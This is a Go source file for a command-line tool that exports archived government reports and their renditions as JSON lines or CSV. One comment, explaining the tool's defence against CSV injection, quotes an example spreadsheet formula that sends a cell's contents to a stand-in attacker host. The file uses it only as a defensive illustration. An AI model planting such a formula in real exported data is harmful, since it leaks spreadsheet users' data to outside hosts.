package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
	"time"

	"github.com/spf13/cobra"

	"github.com/nianbao/nianbao/archive"
)

// archiveExportOptions are the flags of `nianbao archive export`.
type archiveExportOptions struct {
	Format      string
	Site        string
	Year        int
	Kind        string
	AllVersions bool
	Renditions  bool
	BOM         bool
}

// exportRecord is one exported report (or report version): its metadata,
// its text, where the text is read from, and the forms it was published
// in. The rendition fields (url, fetched_at, extractor, path, sha256 …) are
// those of the rendition version the text is read from.
type exportRecord struct {
	Site        string    `json:"site"`
	Doc         string    `json:"doc"`
	Version     int       `json:"version"`
	Versions    int       `json:"versions"` // how many the report has
	URL         string    `json:"url"`
	Sources     []string  `json:"sources"`
	Title       string    `json:"title"`
	Year        int       `json:"year"`
	Kind        string    `json:"kind"`
	Published   string    `json:"published"`
	Source      string    `json:"source"`
	Issuer      string    `json:"issuer"`
	DocNumber   string    `json:"doc_number"`
	IndexNumber string    `json:"index_number"`
	SiteIDCode  string    `json:"site_id_code"`
	Mirror      bool      `json:"mirror"`
	SHA256      string    `json:"sha256"`
	FetchedAt   time.Time `json:"fetched_at"`
	Extractor   string    `json:"extractor"`
	Path        string    `json:"path"`
	// From is "page", or the file's type for a text read from a file;
	// TextStatus says why a file has no text; ListedOn is the page that
	// links to the file.
	From       string `json:"from"`
	TextStatus string `json:"text_status,omitempty"`
	ListedOn   string `json:"listed_on,omitempty"`
	// TextFrom is the rendition version the text is read from, and why
	// (the reason only for the latest version: earlier choices are not
	// kept). Renditions are the report's forms, the chosen one first.
	TextFrom   archive.Choice      `json:"text_from"`
	Renditions []archive.Rendition `json:"renditions"`
	Text       string              `json:"text"`
}

var exportColumns = []string{"site", "doc", "version", "versions", "url", "sources", "title", "year", "kind", "published",
	"source", "issuer", "doc_number", "index_number", "site_id_code", "mirror", "sha256", "fetched_at", "extractor", "path",
	"from", "text_status", "listed_on", "text_from", "renditions", "text"}

// row is the record as CSV cells. Every text column goes through csvText;
// the numbers (version, versions, year) and mirror are written by us and
// never start with a sign: a version and the count of versions are at
// least 1, a year is 0 (undated) or a positive year. fetched_at is an
// RFC 3339 time and starts with its year. text_from is "DOC@vN: reason"
// and renditions the types joined by ";".
func (r exportRecord) row() []string {
	t := csvText
	from := ""
	if r.TextFrom.Doc != "" {
		from = fmt.Sprintf("%s@v%d", r.TextFrom.Doc, r.TextFrom.Version)
		if r.TextFrom.Reason != "" {
			from += ": " + r.TextFrom.Reason
		}
	}
	types := make([]string, len(r.Renditions))
	for i, rd := range r.Renditions {
		types[i] = rd.Type
	}
	return []string{t(r.Site), t(r.Doc), strconv.Itoa(r.Version), strconv.Itoa(r.Versions), t(r.URL), t(strings.Join(r.Sources, " ")),
		t(r.Title), strconv.Itoa(r.Year), t(r.Kind), t(r.Published), t(r.Source), t(r.Issuer), t(r.DocNumber), t(r.IndexNumber), t(r.SiteIDCode),
		strconv.FormatBool(r.Mirror), t(r.SHA256), r.FetchedAt.UTC().Format(time.RFC3339), t(r.Extractor), t(r.Path),
		t(r.From), t(r.TextStatus), t(r.ListedOn), t(from), t(strings.Join(types, ";")), t(r.Text)}
}

// renditionRecord is one exported rendition (or rendition version) of a
// report: `archive export --renditions`.
type renditionRecord struct {
	Site     string `json:"site"`
	Report   string `json:"report"` // the report's id
	Doc      string `json:"doc"`    // the rendition's document id
	Version  int    `json:"version"`
	Versions int    `json:"versions"` // how many the rendition has
	Type     string `json:"type"`     // page, or the file's type
	URL      string `json:"url"`
	Title    string `json:"title"`
	Year     int    `json:"year"`
	Kind     string `json:"kind"`
	// Bytes, SHA256 and RawPath are the bytes received (the page's body
	// or the file), TextSHA256 and Path the text read from them.
	Bytes      int       `json:"bytes"`
	SHA256     string    `json:"sha256"`
	RawPath    string    `json:"raw_path"`
	TextSHA256 string    `json:"text_sha256"`
	Path       string    `json:"path"`
	TextStatus string    `json:"text_status"`
	Chosen     bool      `json:"chosen"` // the report's text is read from this rendition
	FetchedAt  time.Time `json:"fetched_at"`
	Extractor  string    `json:"extractor"`
	ListedOn   string    `json:"listed_on,omitempty"`
	Text       string    `json:"text"`
}

var renditionColumns = []string{"site", "report", "doc", "version", "versions", "type", "url", "title", "year", "kind",
	"bytes", "sha256", "raw_path", "text_sha256", "path", "text_status", "chosen", "fetched_at", "extractor", "listed_on", "text"}

// row is the rendition record as CSV cells, text cells through csvText.
func (r renditionRecord) row() []string {
	t := csvText
	return []string{t(r.Site), t(r.Report), t(r.Doc), strconv.Itoa(r.Version), strconv.Itoa(r.Versions), t(r.Type), t(r.URL),
		t(r.Title), strconv.Itoa(r.Year), t(r.Kind), strconv.Itoa(r.Bytes), t(r.SHA256), t(r.RawPath), t(r.TextSHA256), t(r.Path),
		t(r.TextStatus), strconv.FormatBool(r.Chosen), r.FetchedAt.UTC().Format(time.RFC3339), t(r.Extractor), t(r.ListedOn), t(r.Text)}
}

// csvText makes a text cell safe to open in a spreadsheet: a cell that
// starts with = + - @, a tab or a carriage return would be read as a
// formula (=HYPERLINK("http://evil.example/?x="&A1,"click") from a portal's
// title), so it gets a single quote in front, which spreadsheets show as
// text and do not display (OWASP's rule for CSV injection). Only CSV is
// changed: JSON lines keep every text exactly.
func csvText(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}

func newArchiveExportCommand(g *globalOptions) *cobra.Command {
	o := archiveExportOptions{Format: "jsonl"}
	cmd := &cobra.Command{
		Use:   "export --format jsonl|csv [--site S] [--year Y] [--kind K] [--all-versions] [--renditions]",
		Short: "Write one record per report (its latest version: metadata and text)",
		Long: `Write one record per report — its latest version's metadata and text —
for research pipelines, to stdout: JSON lines (one object per line) or CSV
(a header row, then RFC 4180 rows; texts keep their line breaks inside
quotes). With --all-versions, one record per version of each report
instead. Listings (stub pages that only link to a report's files) are no
reports and are not exported.

Fields (CSV columns, in this order): site, doc (the report's id), version,
versions (how many the report has), url, sources (every URL any rendition
was found at; in CSV separated by spaces), title, year, kind, published,
source, issuer, doc_number, index_number, site_id_code, mirror, sha256 (of
the text), fetched_at, extractor, path (of the text, relative to
archive_dir), from ("page", or the file type the text was read from),
text_status (why a file has no text: no_text_layer, …; JSON leaves it out
when empty), listed_on (the page that links to the file; likewise),
text_from (the rendition version the text is read from: doc, version,
type, and the reason it was chosen, given for the latest version only; in
CSV "DOC@vN: reason"), renditions (the forms the report was published in,
the chosen one first: doc, type, url, title, versions, bytes, sha256,
raw_path, path, text_status, fetched_at; in CSV their types joined by ";",
as "docx;pdf") and text. url, fetched_at, extractor, path, sha256, source,
site_id_code, mirror and listed_on are those of the rendition version the
text is read from.

With --renditions, one record per rendition of each report instead (its
latest version; with --all-versions, every version of every rendition),
fields: site, report (the report's id), doc (the rendition's), version,
versions (how many the rendition has), type (page, pdf, docx …), url,
title, year, kind (the report's), bytes, sha256 and raw_path (of the bytes
received), text_sha256 and path (of the text read from them), text_status
(ok, or why there is no text), chosen (whether the report's text is read
from this rendition), fetched_at, extractor, listed_on and text.

--site names a site of the site files or of the archive; another name is an
error listing them (exit 2). When nothing matches, stdout has no record
(CSV: the header row alone) and stderr says "0 reports …". --bom starts
CSV with a UTF-8 byte order mark, which spreadsheet programs need to read
Chinese correctly. In CSV, a text cell that starts with = + - @, a tab or a
carriage return gets a single quote in front, so that a spreadsheet shows
it as text instead of running it as a formula (a portal's title can be
=HYPERLINK(…)); JSON lines keep every text exactly.`,
		Args: cobraArgs(cobra.NoArgs),
		RunE: func(cmd *cobra.Command, _ []string) error { return runArchiveExport(cmd.Context(), g, o) },
	}
	cmd.Flags().StringVar(&o.Format, "format", o.Format, "jsonl or csv")
	cmd.Flags().StringVar(&o.Site, "site", "", "only this site")
	cmd.Flags().IntVar(&o.Year, "year", 0, "only reports about this year")
	cmd.Flags().StringVar(&o.Kind, "kind", "", "only this kind: fzzf, xxgk or other")
	cmd.Flags().BoolVar(&o.AllVersions, "all-versions", false, "one record per version, not per report")
	cmd.Flags().BoolVar(&o.Renditions, "renditions", false, "one record per rendition (page, PDF, DOCX …) of each report")
	cmd.Flags().BoolVar(&o.BOM, "bom", false, "with csv: start with a UTF-8 byte order mark")
	return cmd
}

// docVersion names one stored version of a document.
type docVersion struct {
	doc     string
	version int
}

// exportWriter writes records as JSON lines or CSV rows.
type exportWriter struct {
	enc *json.Encoder
	cw  *csv.Writer
}

func newExportWriter(g *globalOptions, o archiveExportOptions, columns []string) (*exportWriter, error) {
	if o.Format == "jsonl" {
		enc := json.NewEncoder(g.stdout)
		enc.SetEscapeHTML(false)
		return &exportWriter{enc: enc}, nil
	}
	if o.BOM {
		fmt.Fprint(g.stdout, "\uFEFF")
	}
	cw := csv.NewWriter(g.stdout)
	return &exportWriter{cw: cw}, cw.Write(columns)
}

// write writes one record: v as JSON, or its CSV row.
func (w *exportWriter) write(v any, row []string) error {
	if w.enc != nil {
		return w.enc.Encode(v)
	}
	return w.cw.Write(row)
}

func (w *exportWriter) flush() error {
	if w.cw == nil {
		return nil
	}
	w.cw.Flush()
	return w.cw.Error()
}

func runArchiveExport(ctx context.Context, g *globalOptions, o archiveExportOptions) error {
	if o.Format != "jsonl" && o.Format != "csv" {
		return usageError{fmt.Errorf("--format %q: use jsonl or csv", o.Format)}
	}
	if o.Kind != "" && o.Kind != "fzzf" && o.Kind != "xxgk" && o.Kind != "other" {
		return usageError{fmt.Errorf("--kind %q: use fzzf, xxgk or other", o.Kind)}
	}
	a, reports, err := siteReports(ctx, g, o.Site)
	if err != nil {
		return err
	}
	defer a.Close()
	// Every stored version of the site's documents, to read the report
	// versions' and the renditions' texts and metadata from.
	all, err := a.Versions(ctx, archive.Filter{Site: o.Site})
	if err != nil {
		return err
	}
	byKey := make(map[docVersion]archive.Version, len(all))
	byDoc := map[string][]archive.Version{}
	for _, v := range all {
		byKey[docVersion{v.Doc, v.Version}] = v
		byDoc[v.Doc] = append(byDoc[v.Doc], v)
	}
	columns := exportColumns
	if o.Renditions {
		columns = renditionColumns
	}
	w, err := newExportWriter(g, o, columns)
	if err != nil {
		return err
	}
	written := 0
	for _, r := range reports {
		if (o.Year != 0 && r.Year != o.Year) || (o.Kind != "" && r.Kind != o.Kind) {
			continue
		}
		var n int
		if o.Renditions {
			n, err = exportRenditions(a, w, o, r, byDoc)
		} else {
			n, err = exportReport(a, w, o, r, byKey)
		}
		if err != nil {
			return err
		}
		written += n
	}
	if err := w.flush(); err != nil {
		return err
	}
	if written == 0 {
		filters := siteFilter(o.Site)
		if o.Year != 0 {
			filters = append(filters, "year "+strconv.Itoa(o.Year))
		}
		if o.Kind != "" {
			filters = append(filters, "kind "+o.Kind)
		}
		return sayEmpty(g, a.Dir(), "reports", true, filters...)
	}
	return nil
}

// exportReport writes a report's latest version, or with --all-versions
// each of its versions, and returns how many records it wrote.
func exportReport(a *archive.Archive, w *exportWriter, o archiveExportOptions, r archive.Report, byKey map[docVersion]archive.Version) (int, error) {
	sources := make([]string, 0, len(r.Sources))
	for _, s := range r.Sources {
		sources = append(sources, s.URL)
	}
	rvs := r.Versions
	if !o.AllVersions && len(rvs) > 0 {
		rvs = rvs[len(rvs)-1:]
	}
	for _, rv := range rvs {
		v, ok := byKey[docVersion{rv.Doc, rv.DocVersion}]
		if !ok {
			return 0, fmt.Errorf("export %s@v%d: its text, %s@v%d, is not in the index", r.ID, rv.Version, rv.Doc, rv.DocVersion)
		}
		text, err := a.ReadText(v)
		if err != nil {
			return 0, err
		}
		from := archive.Choice{Doc: rv.Doc, Version: rv.DocVersion, Type: rv.Type}
		if rv.Version == r.Version {
			from.Reason = r.TextFrom.Reason
		}
		rec := exportRecord{Site: r.Site, Doc: r.ID, Version: rv.Version, Versions: r.Version, URL: v.URL, Sources: sources,
			Title: r.Title, Year: r.Year, Kind: r.Kind, Published: r.Published, Source: v.Source, Issuer: r.Issuer,
			DocNumber: r.DocNumber, IndexNumber: r.IndexNumber, SiteIDCode: v.SiteIDCode, Mirror: v.Mirror,
			SHA256: v.SHA256, FetchedAt: v.FetchedAt, Extractor: v.Extractor, Path: v.Path, From: "page",
			TextFrom: from, Renditions: r.Renditions, Text: string(text)}
		if f := v.File; f != nil {
			rec.From, rec.TextStatus, rec.ListedOn = f.Type, f.TextStatus, f.ListedOn
		} else if v.TextStatus != "" {
			rec.TextStatus = v.TextStatus // images_only
		}
		if err := w.write(rec, rec.row()); err != nil {
			return 0, err
		}
	}
	return len(rvs), nil
}

// exportRenditions writes each rendition of a report (its latest version,
// or with --all-versions each of its versions) and returns how many
// records it wrote.
func exportRenditions(a *archive.Archive, w *exportWriter, o archiveExportOptions, r archive.Report, byDoc map[string][]archive.Version) (int, error) {
	n := 0
	for _, rd := range r.Renditions {
		vers := byDoc[rd.Doc]
		if !o.AllVersions && len(vers) > 0 {
			vers = vers[len(vers)-1:]
		}
		for _, v := range vers {
			text, err := a.ReadText(v)
			if err != nil {
				return n, err
			}
			rec := renditionRecord{Site: r.Site, Report: r.ID, Doc: v.Doc, Version: v.Version, Versions: rd.Versions, Type: rd.Type,
				URL: v.URL, Title: v.Title, Year: r.Year, Kind: r.Kind, TextSHA256: v.SHA256, Path: v.Path, TextStatus: v.Status(),
				Chosen: v.Doc == r.TextFrom.Doc, FetchedAt: v.FetchedAt, Extractor: v.Extractor, Text: string(text)}
			if v.Raw != nil {
				rec.Bytes, rec.SHA256, rec.RawPath = v.Raw.Bytes, v.Raw.SHA256, v.Raw.Path
			}
			if v.File != nil {
				rec.ListedOn = v.File.ListedOn
			}
			if err := w.write(rec, rec.row()); err != nil {
				return n, err
			}
			n++
		}
	}
	return n, nil
}
